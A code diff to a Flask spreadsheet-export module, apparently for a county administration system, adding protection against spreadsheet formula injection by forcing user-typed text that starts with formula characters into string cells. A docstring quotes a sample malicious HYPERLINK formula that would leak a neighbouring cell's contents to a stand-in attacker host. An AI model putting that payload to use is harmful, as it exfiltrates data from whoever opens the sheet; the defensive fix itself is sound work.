@@ -9,6 +9,7 @@ from __future__ import annotations
 from collections.abc import Iterable, Sequence
 from datetime import date, datetime
 from io import BytesIO
+from typing import TYPE_CHECKING
 
 from flask import Response, request, send_file
 from openpyxl import Workbook
@@ -26,6 +27,13 @@ def wants_xlsx() -> bool:
     return request.args.get("format") == "xlsx"
 
 
+if TYPE_CHECKING:
+    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
+
+# A text that starts with one of these is a formula to Excel and to openpyxl (which writes "=…" as one).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
 def _cell_value(value: object) -> object:
     # Excel has no time zones: show local (Asia/Shanghai) wall time, as the county reads it.
     if isinstance(value, datetime):
@@ -33,6 +41,18 @@ def _cell_value(value: object) -> object:
     if value is None or isinstance(value, int | float | str | date):
         return value
     return str(value)
+
+
+def _cell(sheet: WriteOnlyWorksheet, value: object) -> object:
+    """Text a villager or cadre typed (a claim note, a reason) stays text: a note such as
+    `=HYPERLINK("http://evil.example/?leak="&B2,"点此查看证明")` is written as a string cell, never a formula
+    that would run in the county's Excel."""
+    value = _cell_value(value)
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        cell = WriteOnlyCell(sheet, value=value)
+        cell.data_type = "s"
+        return cell
+    return value
 
 
 def xlsx_response(filename: str, title: str, headers: Sequence[str], rows: Iterable[Sequence[object]]) -> Response:
@@ -49,7 +69,7 @@ def xlsx_response(filename: str, title: str, headers: Sequence[str], rows: Itera
         header_cells.append(cell)
     sheet.append(header_cells)
     for row in rows:
-        sheet.append([_cell_value(value) for value in row])
+        sheet.append([_cell(sheet, value) for value in row])
     buffer = BytesIO()
     workbook.save(buffer)
     buffer.seek(0)
